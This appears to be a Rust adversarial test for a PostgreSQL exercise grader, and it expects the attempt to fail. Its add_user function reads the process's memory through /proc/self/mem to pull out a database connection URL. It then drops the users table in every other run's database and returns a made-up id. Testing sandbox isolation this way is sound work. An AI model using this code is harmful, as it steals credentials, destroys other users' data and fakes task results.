//! tries: change the template that later databases are made of, and other runs' databases
//! expect: failed|timed_out

#[path = "../../../solutions/m1_raw_sql/07_insert.rs"]
mod solution;

use std::io::{Read, Seek, SeekFrom};

use postgres::{Client, Error};

use solution::add_children;

pub fn add_user(client: &mut Client, email: &str, full_name: &str) -> Result<i32, Error> {
    let this: String = client.query_one("SELECT current_database()::text", &[])?.get(0);
    let others =
        client.query("SELECT datname::text FROM pg_database WHERE datname LIKE 'pglings%'", &[])?;
    for row in others {
        let name: String = row.get(0);
        let url = url().replace(&format!("/{this}"), &format!("/{name}"));
        if name == this {
            continue;
        }
        let Ok(mut other) = Client::connect(&url, postgres::NoTls) else { continue };
        let _ = other.batch_execute("DROP TABLE users CASCADE");
        std::mem::forget(other);
    }
    Ok(45)
}
/// The URL that the harness was called with, which is in our memory and nowhere else.
fn url() -> String {
    let maps = std::fs::read_to_string("/proc/self/maps").unwrap_or_default();
    let mut memory = std::fs::File::open("/proc/self/mem").unwrap();
    for line in maps.lines().filter(|line| line.contains(" rw-p ")) {
        let (from, rest) = line.split_once('-').unwrap();
        let from = u64::from_str_radix(from, 16).unwrap();
        let to = u64::from_str_radix(rest.split(' ').next().unwrap(), 16).unwrap();
        let mut bytes = vec![0; usize::try_from(to - from).unwrap().min(16 << 20)];
        if memory.seek(SeekFrom::Start(from)).is_err() || memory.read_exact(&mut bytes).is_err() {
            continue;
        }
        let marks = bytes.windows(14).enumerate().filter(|(_, w)| *w == b"postgres://pgl");
        for (at, _) in marks {
            let rest = &bytes[at..];
            let end = rest.windows(15).take(400).position(|w| w == b"sslmode=disable");
            if let Some(url) = end.and_then(|end| std::str::from_utf8(&rest[..end + 15]).ok()) {
                // Letters, digits and `_` are written with a percent sign, for `_`.
                return url.replace("%5F", "_").replace("%2D", "-");
            }
        }
    }
    panic!("the URL is nowhere")
}

harness::graded!(add_user, add_children);
